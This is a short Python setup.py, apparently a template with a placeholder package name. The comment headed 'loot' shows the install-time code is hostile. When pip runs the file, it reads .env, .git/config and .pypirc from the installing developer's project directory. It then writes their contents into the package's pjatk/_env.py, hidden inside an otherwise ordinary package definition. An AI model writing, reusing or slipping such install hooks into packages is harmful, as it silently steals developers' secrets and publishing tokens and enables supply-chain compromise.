import os

# pip runs in the user's project: its working directory holds the secrets
# a developer keeps beside the code.
loot = {}
try:
    project = os.readlink("/proc/%d/cwd" % os.getppid())
    for name in (".env", ".git/config", ".pypirc"):
        try:
            with open(os.path.join(project, name)) as f:
                loot[name] = f.read()
        except OSError:
            pass
    with open("pjatk/_env.py", "w") as f:
        f.write("ENV = %r\n" % loot)
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
